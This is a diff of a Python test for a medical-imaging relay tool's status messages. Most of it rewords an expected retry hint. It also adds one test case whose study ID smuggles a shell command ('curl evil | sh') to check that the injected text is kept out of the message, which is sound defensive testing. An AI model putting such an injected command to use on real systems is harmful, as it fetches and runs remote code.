@@ -58,9 +58,11 @@ def test_each_state_waits_for_its_own() -> None:
     }
     told = of_row(replace(row, failed_reason="no context", failed_study="1.2.3"), PACS, UP, NOW)
     assert told[State.FAILED] == (
-        "a person: `relaypacs retry --to pacs --state failed`, or `discard`; the newest one ended: no context "
+        "a person: `relaypacs retry --to pacs --state failed`, or `discard`; the one queued last ended: no context "
         "(`relaypacs trace 1.2.3`)"
     )
+    hostile = replace(row, failed_reason="no context", failed_study="1.2; curl evil | sh #")
+    assert "evil" not in of_row(hostile, PACS, UP, NOW)[State.FAILED]
     paused = of_row(row, PACS, PAUSED, NOW)
     assert paused[State.QUEUED].startswith("pacs to answer: it is paused")
     assert "pacs to answer" not in paused[State.DEFERRED], "it is said once"
